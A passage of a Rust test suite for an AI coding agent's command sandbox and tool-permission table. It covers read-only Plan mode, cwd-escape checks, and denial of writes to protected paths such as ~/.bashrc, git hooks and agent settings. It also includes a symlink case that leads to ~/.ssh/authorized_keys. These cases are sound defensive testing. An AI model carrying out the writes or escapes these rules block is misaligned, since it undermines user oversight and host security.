        assert_eq!(check_workspace_identity(bound, bound), Ok(()));
        for found in [
            WorkspaceIdentity {
                device: 2049,
                inode: 78,
            },
            WorkspaceIdentity {
                device: 2050,
                inode: 77,
            },
        ] {
            assert_eq!(
                check_workspace_identity(bound, found),
                Err(ErrorCode::CommandCwdEscape),
                "{found:?}"
            );
        }
    }

    #[test]
    fn a_resolved_cwd_behind_a_symlink_out_of_the_root_escapes() {
        assert_eq!(check_resolved_cwd("/real/w", "/real/w"), Ok(()));
        assert_eq!(check_resolved_cwd("/real/w", "/real/w/src"), Ok(()));
        assert_eq!(
            check_resolved_cwd("/real/w", "/real/w2"),
            Err(ErrorCode::CommandCwdEscape)
        );
        assert_eq!(
            check_resolved_cwd("/real/w", "/tmp"),
            Err(ErrorCode::CommandCwdEscape)
        );
    }

    #[test]
    fn sandbox_is_read_only_in_plan_and_workspace_write_in_every_agent_turn() {
        let options = CommandOptions::default();
        let turn = |mode, kind| ActiveTurnFixture::turn(mode, kind);
        for kind in [TurnKind::Prompt, TurnKind::Execution] {
            assert_eq!(
                sandbox_for(&turn(Mode::Plan, kind), &options),
                SandboxGrant {
                    sandbox: Sandbox::ReadOnly,
                    network: false
                }
            );
            // Under ask and accept-edits a person confirms the command; the
            // confinement is the same as under auto.
            assert_eq!(
                sandbox_for(&turn(Mode::Agent, kind), &options),
                SandboxGrant {
                    sandbox: Sandbox::WorkspaceWrite,
                    network: false
                }
            );
            let online = CommandOptions {
                network_in_auto: true,
                ..options.clone()
            };
            assert!(sandbox_for(&turn(Mode::Agent, kind), &online).network);
            assert!(!sandbox_for(&turn(Mode::Plan, kind), &online).network);
            // The opt-out applies only where the sandbox is unavailable, and
            // only to Agent turns: Plan stays read-only.
            let opted_out = CommandOptions {
                auto_without_sandbox: true,
                sandbox_available: true,
                ..options.clone()
            };
            let unavailable = CommandOptions {
                sandbox_available: false,
                ..opted_out.clone()
            };
            for (options, expected) in [(opted_out, Sandbox::WorkspaceWrite), (unavailable, Sandbox::None)] {
                assert_eq!(sandbox_for(&turn(Mode::Agent, kind), &options).sandbox, expected);
                assert_eq!(
                    sandbox_for(&turn(Mode::Plan, kind), &options).sandbox,
                    Sandbox::ReadOnly
                );
            }
        }
    }

    struct ActiveTurnFixture;

    impl ActiveTurnFixture {
        fn turn(mode: Mode, kind: TurnKind) -> plan_core::ActiveTurn {
            plan_core::ActiveTurn::new("t1".into(), mode, Origin::Interactive, kind, EPOCH)
        }
    }

    #[test]
    fn plan_bash_runs_read_only_and_offline() {
        let (decisions, state) = run_batch(&plan_turn(), &sandboxed(), vec![bash("c1", "cat README.md")]);
        let [ToolDecision::RunCommand(launch)] = decisions.as_slice() else {
            panic!("expected a run, got {decisions:?}");
        };
        let request = &launch.request;
        assert_eq!(
            request,
            &CommandRequest {
                session_id: "s1".into(),
                turn_id: "t1".into(),
                call_id: "c1".into(),
                workspace_root: ROOT.to_owned(),
                input: BashInput {
                    command: "cat README.md".to_owned(),
                    timeout_ms: CommandLimits::DEFAULT_TIMEOUT_MS,
                    cwd: ".".to_owned(),
                },
                shell: None,
                grant: SandboxGrant {
                    sandbox: Sandbox::ReadOnly,
                    network: false
                },
            }
        );
        let turn = state.active_turn.expect("the turn stays active");
        assert_eq!(turn.running_commands(), ["c1"]);
    }

    #[test]
    fn plan_bash_without_the_sandbox_is_denied_and_nothing_runs() {
        let (decisions, state) = run_batch(&plan_turn(), &context(T0), vec![bash("c1", "cat README.md")]);
        assert_eq!(decisions, [ToolDecision::Deny(ErrorCode::PlanSandboxUnavailable)]);
        let turn = state.active_turn.expect("the turn stays active");
        assert!(!turn.has_running_command());
    }

    #[test]
    fn plan_bash_without_the_sandbox_carries_the_reason_the_host_found() {
        // Without a reason the code's own message stands.
        let transition = handle(
            &plan_turn(),
            &context(T0),
            support::tool_calls("t1".into(), vec![bash("c1", "cat README.md")]),
        );
        let Reply::ToolResults(results) = accepted(&transition) else {
            panic!("expected tool results");
        };
        assert_eq!(results[0].message, None);

        let mut with_reason = context(T0);
        with_reason.limits.commands.sandbox_unavailable_reason =
            Some("the sandbox helper /nonexistent/helper was not found".to_owned());
        let transition = handle(
            &plan_turn(),
            &with_reason,
            support::tool_calls(
                "t1".into(),
                vec![
                    bash("c1", "cat README.md"),
                    ToolCall {
                        call_id: "r1".into(),
                        name: "Read".to_owned(),
                        input: json!({"path": "README.md"}),
                    },
                ],
            ),
        );
        let Reply::ToolResults(results) = accepted(&transition) else {
            panic!("expected tool results");
        };
        assert_eq!(
            results[0].decision,
            ToolDecision::Deny(ErrorCode::PlanSandboxUnavailable)
        );
        assert_eq!(
            results[0].message.as_deref(),
            Some(
                "the read-only Plan sandbox is unavailable, so Plan-mode Bash cannot run: \
                 the sandbox helper /nonexistent/helper was not found"
            )
        );
        // Only the refusal for want of the sandbox carries it.
        assert_eq!(results[1].decision, ToolDecision::Allow);
        assert_eq!(results[1].message, None);
    }

    #[test]
    fn plan_bash_input_errors_are_denials() {
        let mut unbound = plan_session();
        unbound.session.workspace_root = None;
        let (decisions, _) = run_batch(&started(&unbound), &sandboxed(), vec![bash("c1", "ls")]);
        assert_eq!(decisions, [ToolDecision::Deny(ErrorCode::SessionNotProjectBound)]);
        let escape = ToolCall {
            input: json!({"command": "ls", "cwd": "../.."}),
            ..bash("c2", "ls")
        };
        let (decisions, _) = run_batch(&plan_turn(), &sandboxed(), vec![escape]);
        assert_eq!(decisions, [ToolDecision::Deny(ErrorCode::CommandCwdEscape)]);
    }

    #[test]
    fn a_call_id_runs_once_per_turn() {
        let (decisions, _) = run_batch(&plan_turn_running(), &sandboxed(), vec![bash("c1", "ls")]);
        assert_eq!(decisions, [ToolDecision::Deny(ErrorCode::CommandNotAllowed)]);
    }

    #[test]
    fn a_missing_sandbox_has_one_code_per_sandbox() {
        assert_eq!(
            Sandbox::ReadOnly.unavailable_code(),
            ErrorCode::PlanSandboxUnavailable
        );
        assert_eq!(
            Sandbox::WorkspaceWrite.unavailable_code(),
            ErrorCode::SandboxUnavailable
        );
        assert_eq!(Sandbox::None.unavailable_code(), ErrorCode::SandboxUnavailable);
    }

    #[test]
    fn command_limits_are_one_range_and_one_clamp() {
        // A default above the maximum is refused: a call without timeoutMs
        // would otherwise get longer than any call may ask for.
        let refused = CommandLimits::new(Some(900_000), 600_000, 4).unwrap_err();
        assert_eq!(refused.code(), ErrorCode::InvalidParams);
        assert!(refused.to_string().contains("900000 ms"), "{refused}");
        assert!(refused.to_string().contains("600000 ms"), "{refused}");
        for (default, max, running) in [(Some(0), 10, 1), (None, 0, 1), (None, 10, 0)] {
            let error = CommandLimits::new(default, max, running).unwrap_err();
            assert_eq!(
                error.code(),
                ErrorCode::InvalidParams,
                "{default:?} {max} {running}"
            );
        }
        // Without a default, the documented one is lowered to a smaller maximum.
        let lowered = CommandLimits::new(None, 60_000, 4).unwrap();
        assert_eq!(
            (lowered.default_timeout_ms(), lowered.max_timeout_ms()),
            (60_000, 60_000)
        );
        let equal = CommandLimits::new(Some(600_000), 600_000, 1).unwrap();
        assert_eq!(equal.default_timeout_ms(), 600_000);
        assert_eq!(
            CommandLimits::new(None, CommandLimits::DEFAULT_MAX_TIMEOUT_MS, 4).unwrap(),
            CommandLimits::default()
        );
    }

    #[test]
    fn more_running_commands_than_the_limit_are_session_busy() {
        let mut context = sandboxed();
        context.limits.commands.limits =
            CommandLimits::new(None, CommandLimits::DEFAULT_MAX_TIMEOUT_MS, 2).unwrap();
        let calls = vec![bash("c1", "a"), bash("c2", "b"), bash("c3", "c")];
        let (decisions, state) = run_batch(&plan_turn(), &context, calls);
        assert!(matches!(decisions[0], ToolDecision::RunCommand(_)));
        assert!(matches!(decisions[1], ToolDecision::RunCommand(_)));
        assert_eq!(decisions[2], ToolDecision::Deny(ErrorCode::SessionBusy));
        let ended = step(&state, T0, Event::CommandEnded { call_id: "c1".into() });
        let (decisions, _) = run_batch(&ended, &context, vec![bash("c3", "c")]);
        assert!(matches!(decisions[0], ToolDecision::RunCommand(_)));
    }

    #[test]
    fn the_turn_cannot_end_or_submit_while_a_command_runs() {
        let state = plan_turn_running();
        let complete = handle(&state, &context(T0), Event::CompleteTurn { turn_id: "t1".into() });
        assert_refused_unchanged(&state, complete, ErrorCode::SessionBusy);
        let (decisions, after) = run_batch(&state, &sandboxed(), vec![submit_call(plan_input())]);
        assert_eq!(decisions, [ToolDecision::Deny(ErrorCode::SessionBusy)]);
        assert!(after.pending_approval.is_none());
        let ended = step(&state, T0, Event::CommandEnded { call_id: "c1".into() });
        let (decisions, _) = run_batch(&ended, &sandboxed(), vec![submit_call(plan_input())]);
        assert_eq!(decisions, [ToolDecision::WriteArtifact]);
        step(&ended, T0, Event::CompleteTurn { turn_id: "t1".into() });
    }

    #[test]
    fn turn_cancel_cancels_every_running_command_first() {
        let (_, state) = run_batch(
            &plan_turn(),
            &sandboxed(),
            vec![bash("c1", "sleep 9"), bash("c2", "sleep 9")],
        );
        let transition = handle(&state, &context(T0), Event::CancelTurn);
        assert_eq!(transition.reply, Ok(Reply::SessionUpdated));
        assert_eq!(
            transition.effects,
            [
                Effect::CancelCommand {
                    call_id: "c1".into(),
                    before_turn_end: true
                },
                Effect::CancelCommand {
                    call_id: "c2".into(),
                    before_turn_end: true
                },
            ]
        );
        assert!(transition.state.active_turn.is_none());
    }

    #[test]
    fn command_cancel_kills_a_running_command_and_names_the_others() {
        let state = plan_turn_running();
        let cancel = |call_id: &str, known_ended| {
            handle(
                &state,
                &context(T0),
                Event::CancelCommand {
                    call_id: call_id.into(),
                    known_ended,
                },
            )
        };
        let transition = cancel("c1", false);
        assert_eq!(
            transition.effects,
            [Effect::CancelCommand {
                call_id: "c1".into(),
                before_turn_end: false
            }]
        );
        assert_eq!(transition.state, state, "the command ends when it exits");
        assert_refused_unchanged(&state, cancel("nope", false), ErrorCode::CommandNotFound);
        assert_refused_unchanged(&state, cancel("old", true), ErrorCode::CommandNotRunning);
        let ended = step(&state, T0, Event::CommandEnded { call_id: "c1".into() });
        let again = handle(
            &ended,
            &context(T0),
            Event::CancelCommand {
                call_id: "c1".into(),
                known_ended: true,
            },
        );
        assert_refused_unchanged(&ended, again, ErrorCode::CommandNotRunning);
        let twice = handle(&ended, &context(T0), Event::CommandEnded { call_id: "c1".into() });
        assert_refused_unchanged(&ended, twice, ErrorCode::CommandNotRunning);
    }

    #[test]
    fn command_start_is_refused_in_plan_turns_for_unknown_and_for_started_calls() {
        let plan = plan_turn_running();
        assert_refused_unchanged(
            &plan,
            start(&plan, &sandboxed(), "c1"),
            ErrorCode::CommandNotAllowed,
        );
        let agent = agent_turn_with_bash(PermissionMode::Ask);
        assert_refused_unchanged(
            &agent,
            start(&agent, &sandboxed(), "c9"),
            ErrorCode::CommandNotAllowed,
        );
        let transition = start(&agent, &sandboxed(), "c1");
        let Ok(Reply::CommandStarted(plan_core::CommandLaunch { request, .. })) = &transition.reply else {
            panic!("expected a start, got {:?}", transition.reply);
        };
        assert_eq!(
            request.grant.sandbox,
            Sandbox::WorkspaceWrite,
            "a confirmed command is confined like an auto one"
        );
        assert_eq!(request.input.timeout_ms, 5_000);
        let running = transition.state;
        assert_refused_unchanged(
            &running,
            start(&running, &sandboxed(), "c1"),
            ErrorCode::CommandNotAllowed,
        );
        let wrong_turn = handle(
            &agent,
            &sandboxed(),
            Event::StartCommand {
                turn_id: "t2".into(),
                call_id: "c1".into(),
                input: json!({"command": "ls"}),
                commands: support::ready(["c1"]),
            },
        );
        assert_refused_unchanged(&agent, wrong_turn, ErrorCode::TurnNotActive);
        let bad_input = handle(
            &agent,
            &sandboxed(),
            Event::StartCommand {
                turn_id: "t1".into(),
                call_id: "c1".into(),
                input: json!({"command": ""}),
                commands: support::ready(["c1"]),
            },
        );
        assert_refused_unchanged(&agent, bad_input, ErrorCode::InvalidCommandInput);
    }

    #[test]
    fn agent_auto_needs_the_workspace_write_sandbox() {
        let agent = agent_turn_with_bash(PermissionMode::Auto);
        let transition = start(&agent, &sandboxed(), "c1");
        let Ok(Reply::CommandStarted(plan_core::CommandLaunch { request, .. })) = &transition.reply else {
            panic!("expected a start, got {:?}", transition.reply);
        };
        assert_eq!(
            request.grant,
            SandboxGrant {
                sandbox: Sandbox::WorkspaceWrite,
                network: false
            }
        );
        assert_refused_unchanged(
            &agent,
            start(&agent, &context(T0), "c1"),
            ErrorCode::SandboxUnavailable,
        );
        // A host that opted out runs `auto` unconfined where the sandbox is
        // missing; a Plan Bash call there is still refused.
        let mut opted_out = context(T0);
        opted_out.limits.commands.auto_without_sandbox = true;
        let transition = start(&agent, &opted_out, "c1");
        let Ok(Reply::CommandStarted(plan_core::CommandLaunch { request, .. })) = &transition.reply else {
            panic!("expected a start, got {:?}", transition.reply);
        };
        assert_eq!(request.grant.sandbox, Sandbox::None);
        let (decisions, _) = run_batch(&plan_turn(), &opted_out, vec![bash("p1", "ls")]);
        assert_eq!(decisions, [ToolDecision::Deny(ErrorCode::PlanSandboxUnavailable)]);
    }

    #[test]
    fn without_namespaces_plan_runs_and_auto_needs_the_opt_out() {
        // P7 cannot be kept without the mount namespace: `auto` is refused,
        // Plan Bash still runs read-only.
        let agent = agent_turn_with_bash(PermissionMode::Auto);
        assert_refused_unchanged(
            &agent,
            start(&agent, &without_namespaces(), "c1"),
            ErrorCode::SandboxUnavailable,
        );
        let (decisions, _) = run_batch(&plan_turn(), &without_namespaces(), vec![bash("p1", "ls")]);
        assert!(
            matches!(decisions.as_slice(), [ToolDecision::RunCommand(_)]),
            "{decisions:?}"
        );
        // The opt-out gets workspace-write with every layer that works, not
        // an unconfined command.
        let mut opted_out = without_namespaces();
        opted_out.limits.commands.auto_without_sandbox = true;
        let transition = start(&agent, &opted_out, "c1");
        let Ok(Reply::CommandStarted(plan_core::CommandLaunch { request, .. })) = &transition.reply else {
            panic!("expected a start, got {:?}", transition.reply);
        };
        assert_eq!(request.grant.sandbox, Sandbox::WorkspaceWrite);
        // A confirmed command under ask or accept-edits needs the same
        // sandbox as an auto one.
        for permission in [PermissionMode::Ask, PermissionMode::AcceptEdits] {
            let agent = agent_turn_with_bash(permission);
            assert_refused_unchanged(
                &agent,
                start(&agent, &without_namespaces(), "c1"),
                ErrorCode::SandboxUnavailable,
            );
            assert!(matches!(
                start(&agent, &opted_out, "c1").reply,
                Ok(Reply::CommandStarted(_))
            ));
        }
    }

    #[test]
    fn the_network_option_needs_namespaces_of_the_commands_own_even_with_the_opt_out() {
        // P11: a command never shares the host's network namespace. Inside
        // namespaces the network is the command's own; without them the
        // option is refused, and the opt-out that accepts `auto` without
        // namespaces does not extend to it.
        let agent = agent_turn_with_bash(PermissionMode::Auto);
        let mut online = sandboxed();
        online.limits.commands.network_in_auto = true;
        let transition = start(&agent, &online, "c1");
        let Ok(Reply::CommandStarted(plan_core::CommandLaunch { request, .. })) = &transition.reply else {
            panic!("expected a start, got {:?}", transition.reply);
        };
        assert!(request.grant.network);
        let mut offline_host = without_namespaces();
        offline_host.limits.commands.network_in_auto = true;
        offline_host.limits.commands.auto_without_sandbox = true;
        assert_refused_unchanged(
            &agent,
            start(&agent, &offline_host, "c1"),
            ErrorCode::SandboxUnavailable,
        );
        // Without the option the opt-out still runs it offline.
        offline_host.limits.commands.network_in_auto = false;
        assert!(matches!(
            start(&agent, &offline_host, "c1").reply,
            Ok(Reply::CommandStarted(_))
        ));
    }

    #[test]
    fn the_sandbox_report_names_what_holds() {
        use plan_core::{CommandCapabilities, PlanSandbox, command_capabilities};
        let strings = |items: &[&str]| items.iter().map(|item| (*item).to_owned()).collect::<Vec<_>>();
        let mut unavailable = context(T0).limits.commands;
        unavailable.sandbox_unavailable_reason = Some("no Landlock".to_owned());
        assert_eq!(
            command_capabilities(&unavailable),
            CommandCapabilities {
                plan_sandbox: PlanSandbox::Unavailable,
                reason: Some("no Landlock".to_owned()),
                layers: vec![],
                enforced: vec![],
                bounds: vec![],
                missing_bounds: vec![],
            }
        );
        // A reason left over from an earlier probe is not reported while the
        // sandbox works.
        let mut without = without_namespaces().limits.commands;
        without.sandbox_unavailable_reason = Some("stale".to_owned());
        assert_eq!(
            command_capabilities(&without),
            CommandCapabilities {
                plan_sandbox: PlanSandbox::Landlock,
                reason: None,
                layers: strings(&["landlock", "seccomp"]),
                enforced: strings(&[
                    "P1", "P2", "P3", "P4", "P5", "P6", "P9", "P10", "P12", "P14", "P16"
                ]),
                bounds: strings(&[
                    "processes",
                    "memory",
                    "inotify",
                    "openFiles",
                    "aio",
                    "keys",
                    "machineAddresses"
                ]),
                missing_bounds: vec![],
            }
        );
        let report = command_capabilities(&sandboxed().limits.commands);
        assert_eq!(report.plan_sandbox, PlanSandbox::Landlock);
        assert_eq!(report.layers, strings(&["landlock", "seccomp", "namespaces"]));
        assert_eq!(
            report.enforced,
            strings(&[
                "P1", "P2", "P3", "P4", "P5", "P6", "P7", "P8", "P9", "P10", "P11", "P12", "P13", "P14",
                "P15", "P16"
            ])
        );
    }

    #[test]
    fn a_bound_the_machine_cannot_give_is_reported_missing_with_why_and_p16_is_not_claimed() {
        use plan_core::{MissingBound, ResourceBound, command_capabilities};
        let mut options = sandboxed().limits.commands;
        options.missing_bounds = vec![MissingBound {
            bound: ResourceBound::Memory.as_str().to_owned(),
            reason: "no cgroup with the memory controller can be made here".to_owned(),
        }];
        let report = command_capabilities(&options);
        assert!(
            !report.enforced.iter().any(|property| property == "P16"),
            "{report:?}"
        );
        assert!(report.enforced.iter().any(|property| property == "P14"));
        assert_eq!(
            report.bounds,
            [
                "processes",
                "inotify",
                "openFiles",
                "aio",
                "keys",
                "machineAddresses"
            ]
        );
        assert_eq!(report.missing_bounds, options.missing_bounds);
        // Every bound has its own name, and the wire names are camelCase.
        let names: std::collections::BTreeSet<&str> =
            ResourceBound::ALL.iter().map(|bound| bound.as_str()).collect();
        assert_eq!(names.len(), ResourceBound::ALL.len());
        assert!(
            names
                .iter()
                .all(|name| !name.contains('_') && !name.contains('-'))
        );
    }

    #[test]
    fn a_commands_memory_bound_is_one_range_refused_outside_never_clamped() {
        use plan_core::{ErrorCode, ResourceBounds};
        assert_eq!(
            ResourceBounds::default().memory_mb(),
            ResourceBounds::DEFAULT_MEMORY_MB
        );
        for memory_mb in [ResourceBounds::MIN_MEMORY_MB, 8192, ResourceBounds::MAX_MEMORY_MB] {
            let bounds = ResourceBounds::with_memory_mb(memory_mb).unwrap();
            assert_eq!(bounds.memory_bytes(), memory_mb * 1024 * 1024);
        }
        for refused in [
            0,
            ResourceBounds::MIN_MEMORY_MB - 1,
            ResourceBounds::MAX_MEMORY_MB + 1,
        ] {
            let error = ResourceBounds::with_memory_mb(refused).unwrap_err();
            assert_eq!(error.code(), ErrorCode::InvalidParams);
            assert!(error.to_string().contains("from 64 MB"), "{error}");
        }
    }

    #[test]
    fn the_fence_interrupts_runs_that_never_ended_and_leaves_ended_ones() {
        let run = |call_id: &str, state| CommandRun {
            call_id: call_id.into(),
            session_id: "s1".into(),
            turn_id: "t1".into(),
            command: "sleep 100".to_owned(),
            cwd: ".".to_owned(),
            shell: plan_core::CommandShell {
                id: "bash".to_owned(),
                path: "/bin/bash".to_owned(),
            },
            sandbox: Sandbox::ReadOnly,
            network: false,
            state,
            exit_code: None,
            signal: None,
            error_code: None,
            started_at: T0,
            ended_at: None,
            stdout_bytes: 0,
            stderr_bytes: 0,
            truncated: false,
        };
        let fenced = fence_commands(
            &[run("c1", CommandState::Running), run("c2", CommandState::Exited)],
            T0 + 5,
        );
        let mut expected = run("c1", CommandState::Interrupted);
        expected.error_code = Some(ErrorCode::HostRestarted);
        expected.ended_at = Some(T0 + 5);
        assert_eq!(fenced, [expected]);
    }
}

// Typed ids.

#[test]
fn typed_ids_name_the_rows_they_come_from() {
    let state = approved_state(PermissionMode::Ask);
    let approval = state.live_execution.clone().expect("a live execution");
    // Each id field has its own type: the session a row names is the
    // session's own id, and the execution got the id Approve carried.
    let owner: &SessionId = &approval.session_id;
    assert_eq!(*owner, state.session.id);
    let submitted_by: &TurnId = &approval.turn_id;
    assert_eq!(*submitted_by, pending_row(&pending_state().0).turn_id);
    let id: &ApprovalId = &approval.id;
    assert_eq!(*id, pending_row(&pending_state().0).id);
    assert_eq!(approval.execution_id, Some(ExecutionId::from("x1")));
    let turn = state.active_turn.expect("the execution turn");
    assert_eq!(turn.turn_id, TurnId::from("t-exec"));
    // Before approval there is no execution to name.
    let (pending, _) = pending_state();
    assert_eq!(pending_row(&pending).execution_id, None);
    // Equal text, equal id; the types keep the kinds apart at compile time
    // (the `compile_fail` example on the ids module shows a refused mix-up).
    assert_eq!(SessionId::from("a"), SessionId::new(String::from("a")));
    assert_eq!(ApprovalId::from("a").into_string(), "a");
}

/// The Agent permission table, `tool/confirm` and their audit
/// (`permissions.md`).
mod permissions {
    use super::*;
    use plan_core::{
        PermissionRule, TOOL_CATALOG, ToolAuditEntry, ToolAuditKind, ToolKind, ToolResult, agent_permission,
        plan_tools, tool_kind,
    };

    /// An Agent session under `mode` whose turn `t1` (of `origin`) started at T0.
    fn agent(mode: PermissionMode, origin: Origin) -> SessionState {
        let mut session = Session::new("s1", Some("/home/dev/project".to_owned()));
        session.permission_mode = mode;
        step(
            &SessionState::idle(session),
            T0,
            Event::StartTurn {
                turn_id: "t1".into(),
                origin,
                mode: None,
            },
        )
    }

    fn call(call_id: &str, name: &str, input: serde_json::Value) -> ToolCall {
        ToolCall {
            call_id: call_id.into(),
            name: name.to_owned(),
            input,
        }
    }

    fn bash(call_id: &str, command: &str) -> ToolCall {
        call(call_id, "Bash", json!({"command": command}))
    }

    fn sandboxed() -> Context {
        let mut context = context(T0);
        context.limits.commands.sandbox_available = true;
        context.limits.commands.namespaces_available = true;
        context
    }

    fn confirm(state: &SessionState, turn_id: &str, call_id: &str, allow: bool) -> Transition {
        handle(
            state,
            &sandboxed(),
            Event::ConfirmTool {
                turn_id: turn_id.into(),
                call_id: call_id.into(),
                allow,
            },
        )
    }

    fn start(state: &SessionState, call_id: &str, command: &str) -> Transition {
        handle(
            state,
            &sandboxed(),
            Event::StartCommand {
                turn_id: "t1".into(),
                call_id: call_id.into(),
                input: json!({"command": command}),
                commands: support::ready([call_id]),
            },
        )
    }

    fn audits(transition: &Transition) -> Vec<ToolAuditEntry> {
        transition
            .effects
            .iter()
            .filter_map(|effect| match effect {
                Effect::RecordToolAudit(entry) => Some(entry.clone()),
                _ => None,
            })
            .collect()
    }

    fn decisions(state: &SessionState, calls: Vec<ToolCall>) -> (Vec<ToolDecision>, Transition) {
        let (results, transition) = tool_results(state, calls);
        (
            results.into_iter().map(|result| result.decision).collect(),
            transition,
        )
    }

    #[test]
    fn the_table_is_the_one_of_the_spec() {
        use PermissionMode::{AcceptEdits, Ask, Auto};
        use PermissionRule::{Allow, Confirm, Deny};
        let not_active = Deny(ErrorCode::PlanNotActive);
        let outside_host = Deny(ErrorCode::ToolRunsOutsideHost);
        // permissions.md, row by row: (tool, ask, accept-edits, auto, host-run).
        let table = [
            ("Read", Allow, Allow, Allow, false),
            ("Glob", Allow, Allow, Allow, false),
            ("Grep", Allow, Allow, Allow, false),
            ("BrowserPreview", Allow, Allow, Allow, false),
            ("new_context", Allow, Allow, Allow, false),
            ("EnterPlanMode", Allow, Allow, Allow, false),
            ("Write", Confirm, Allow, Allow, false),
            ("Edit", Confirm, Allow, Allow, false),
            ("Bash", Confirm, Confirm, Allow, true),
            ("mcp__github__create_issue", Confirm, Confirm, Allow, false),
            ("read", Confirm, Confirm, Allow, false),
            ("SubmitPlan", not_active, not_active, not_active, false),
            ("ToolSearch", Allow, Allow, Allow, false),
            ("AskUserQuestion", Allow, Allow, Allow, false),
            ("Monitor", outside_host, outside_host, outside_host, false),
            ("Workflow", outside_host, outside_host, outside_host, false),
        ];
        for (name, ask, accept_edits, auto, host_run) in table {
            for (mode, rule) in [(Ask, ask), (AcceptEdits, accept_edits), (Auto, auto)] {
                let permission = agent_permission(tool_kind(name), mode, Origin::Interactive);
                assert_eq!(permission.rule, rule, "{name} under {mode}");
                assert_eq!(permission.host_run, host_run, "{name} under {mode}");
                // Nobody can confirm a scheduled or background turn's call.
                for origin in [Origin::Scheduled, Origin::Background] {
                    let unattended = agent_permission(tool_kind(name), mode, origin);
                    let expected = match rule {
                        Confirm => Deny(ErrorCode::PermissionRequiresInteractiveSession),
                        Allow | Deny(_) => rule,
                    };
                    assert_eq!(unattended.rule, expected, "{name} under {mode}, {origin:?}");
                }
            }
        }
    }

    #[test]
    fn a_write_a_command_could_not_make_is_confirmed_or_under_auto_refused() {
        use PermissionMode::{AcceptEdits, Ask, Auto};
        // 'a' allow, 'c' confirm, 'p' refused as protected.
        let decision = |letter: char| match letter {
            'a' => ToolDecision::Allow,
            'c' => ToolDecision::Confirm { host_run: false },
            _ => ToolDecision::Deny(ErrorCode::ToolWriteProtected),
        };
        // (path, ask, accept-edits, auto) for a session in /home/dev/project.
        let table = [
            ("/home/dev/project/src/lib.rs", 'c', 'a', 'a'),
            ("src/lib.rs", 'c', 'a', 'a'),
            ("/home/dev/project/../other/x", 'c', 'c', 'p'),
            ("/home/dev/.bashrc", 'c', 'c', 'p'),
            ("/home/dev/project/.claude/settings.json", 'c', 'c', 'p'),
            ("/home/dev/project/.mcp.json", 'c', 'c', 'p'),
            ("/home/dev/project/.git/hooks/pre-commit", 'c', 'c', 'p'),
            ("/home/dev/project/vendor/lib/.git/config", 'c', 'c', 'p'),
            ("/home/dev/project/.pi/plan/plan.db", 'c', 'c', 'p'),
        ];
        let tools = [
            ("Write", "file_path"),
            ("Edit", "file_path"),
            ("MultiEdit", "file_path"),
            ("NotebookEdit", "notebook_path"),
        ];
        for (tool, field) in tools {
            for (path, ask, accept_edits, auto) in table {
                for (mode, letter) in [(Ask, ask), (AcceptEdits, accept_edits), (Auto, auto)] {
                    let expected = decision(letter);
                    let state = agent(mode, Origin::Interactive);
                    let (decided, transition) =
                        decisions(&state, vec![call("w", tool, json!({field: path}))]);
                    assert_eq!(
                        decided,
                        std::slice::from_ref(&expected),
                        "{tool} {path} under {mode}"
                    );
                    // Every decision but a plain allow is in the audit, the
                    // refusal with its code.
                    let audited = audits(&transition);
                    assert_eq!(audited.len(), 1, "{tool} {path} under {mode}");
                    let kind = match letter {
                        'a' => ToolAuditKind::AutoAllowed,
                        'c' => ToolAuditKind::ConfirmRequested,
                        _ => ToolAuditKind::Declined,
                    };
                    assert_eq!(audited[0].kind, kind);
                    if letter == 'p' {
                        assert_eq!(audited[0].error_code, Some(ErrorCode::ToolWriteProtected));
                    }
                    // Nobody can confirm an unattended turn's outside write.
                    let unattended = agent(mode, Origin::Scheduled);
                    let (decided, _) = decisions(&unattended, vec![call("w", tool, json!({field: path}))]);
                    let expected = match letter {
                        'c' => ToolDecision::Deny(ErrorCode::PermissionRequiresInteractiveSession),
                        _ => expected,
                    };
                    assert_eq!(decided, [expected], "{tool} {path} under {mode}, scheduled");
                }
            }
        }
        // A write naming no file is one nobody can place: never a plain allow.
        let (decided, _) = decisions(
            &agent(Auto, Origin::Interactive),
            vec![call("w", "Write", json!({"content": "x"}))],
        );
        assert_eq!(decided, [decision('p')]);
        // The confirmation covers the path a person saw: the same call id
        // with another path is refused.
        let state = agent(AcceptEdits, Origin::Interactive);
        let (_, first) = decisions(&state, vec![call("w", "Write", json!({"file_path": "/etc/x"}))]);
        let (again, _) = decisions(
            &first.state,
            vec![call("w", "Write", json!({"file_path": "/etc/y"}))],
        );
        assert_eq!(again, [ToolDecision::Deny(ErrorCode::InvalidParams)]);
    }

    #[test]
    fn where_the_host_found_a_path_leads_places_the_write() {
        // A link inside the workspace that leads out of it.
        let state = agent(PermissionMode::Auto, Origin::Interactive);
        let calls = vec![call(
            "w",
            "Write",
            json!({"file_path": "/home/dev/project/link/x"}),
        )];
        let mut commands = support::ready(std::iter::empty());
        commands.writes.push(plan_core::WriteFact {
            call_id: "w".into(),
            real_root: Some("/home/dev/project".to_owned()),
            real_paths: vec![Some("/home/dev/.ssh/authorized_keys".to_owned())],
        });
        let transition = handle(
            &state,
            &context(T0),
            Event::ToolCalls {
                turn_id: "t1".into(),
                calls,
                commands,
            },
        );
        let Ok(Reply::ToolResults(results)) = transition.reply else {
            panic!("{:?}", transition.reply);
        };
        assert_eq!(
            results[0].decision,
            ToolDecision::Deny(ErrorCode::ToolWriteProtected)
        );
    }

    #[test]
    fn a_tool_that_runs_a_program_outside_the_host_is_refused_in_every_turn() {
        for mode in PermissionMode::ALL.iter().copied() {
            let (decided, transition) = decisions(
                &agent(mode, Origin::Interactive),
                vec![call(
                    "m",
                    "Monitor",
                    json!({"command": "touch /tmp/x", "description": "d", "timeout_ms": 1000}),
                )],
            );
            assert_eq!(
                decided,
                [ToolDecision::Deny(ErrorCode::ToolRunsOutsideHost)],
                "{mode}"
            );
            assert!(audits(&transition).is_empty());
        }
        let (decided, _) = decisions(
            &plan_turn(),
            vec![call("m", "Monitor", json!({"command": "true"}))],
        );
        assert_eq!(decided, [ToolDecision::Deny(ErrorCode::ToolRunsOutsideHost)]);
        // Claude Code's read-only helpers are Plan tools.
        let (decided, _) = decisions(
            &plan_turn(),
            vec![
                call("q", "ToolSearch", json!({"query": "select:ExitPlanMode"})),
                call("a", "AskUserQuestion", json!({"questions": []})),
            ],
        );
        assert_eq!(decided, [ToolDecision::Allow, ToolDecision::Allow]);
    }

    #[test]
    fn one_catalog_feeds_the_plan_allowlist_and_the_agent_table() {
        let plan: Vec<&str> = plan_tools().collect();
        assert_eq!(
            plan,
            [
                "Read",
                "Glob",
                "Grep",
                "BrowserPreview",
                "EnterPlanMode",
                "new_context",
                "ToolSearch",
                "AskUserQuestion",
                "TodoWrite",
                "TaskCreate",
                "TaskGet",
                "TaskList",
                "TaskUpdate",
